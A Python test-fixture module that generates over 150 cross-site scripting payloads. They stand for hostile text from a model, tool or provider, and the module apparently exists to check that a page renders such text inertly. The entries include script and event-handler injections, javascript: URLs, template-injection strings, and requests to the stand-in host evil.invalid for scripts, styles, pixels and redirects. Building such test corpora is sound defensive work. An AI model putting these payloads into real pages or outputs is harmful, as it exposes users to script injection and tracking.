"""Texts that try to become code: what a model, a tool or a provider might send."""

from itertools import product

__all__ = ["PAYLOADS"]

_ACT = "window.__pwned=1"

_VECTORS = (
    f"<script>{_ACT}</script>",
    f"<SCRIPT>{_ACT}</SCRIPT>",
    f"<script src=https://evil.invalid/x.js></script><script>{_ACT}</script>",
    f"<img src=x onerror={_ACT}>",
    f"<img src=x onerror=alert(1);{_ACT}>",
    f"<svg onload={_ACT}>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
    f"<body onload={_ACT}>",
    f"<iframe srcdoc='<script>parent.{_ACT}</script>'></iframe>",
    f'<iframe src="javascript:parent.{_ACT}"></iframe>',
    f"<details open ontoggle={_ACT}>x</details>",
    f"<input autofocus onfocus={_ACT}>",
    f"<video><source onerror={_ACT}></video>",
    f"<audio src=x onerror={_ACT}>",
    f"<marquee onstart={_ACT}>x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_ACT}>",
    f'<a href="javascript:{_ACT}">click</a>',
    f"javascript:{_ACT}",
    f"data:text/html,<script>{_ACT}</script>",
    f"<object data='javascript:{_ACT}'></object>",
    f"<embed src='javascript:{_ACT}'>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>*{background:url(https://evil.invalid/x.png)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    f"<form action='javascript:{_ACT}'><button autofocus>x</button></form>",
    "<img src=https://evil.invalid/pixel.png>",
    f"${{{_ACT}}}",
    f"{{{{constructor.constructor('{_ACT}')()}}}}",
    f"`-{_ACT}-`",
    f"eval('{_ACT}')",
    "__proto__",
    "constructor",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.__pwned%3D1%3C%2Fscript%3E",
    "$data $script $$",
)
_ESCAPES = (
    "{}",
    "</script>{}",
    '">{}<"',
    "'-alert(1)-'{}",
    "-->{}<!--",
    "]]>{}",
    "</textarea></title></style>{}",
    '\\"}}];{}//',
)

PAYLOADS = tuple(
    dict.fromkeys(
        f"{escape.format(vector)} #{number}"
        for number, (escape, vector) in enumerate(product(_ESCAPES, _VECTORS))
        if number % 2 == 0 or number < 40
    )
)
"""More than 150, all different, none with characters that the page makes visible."""
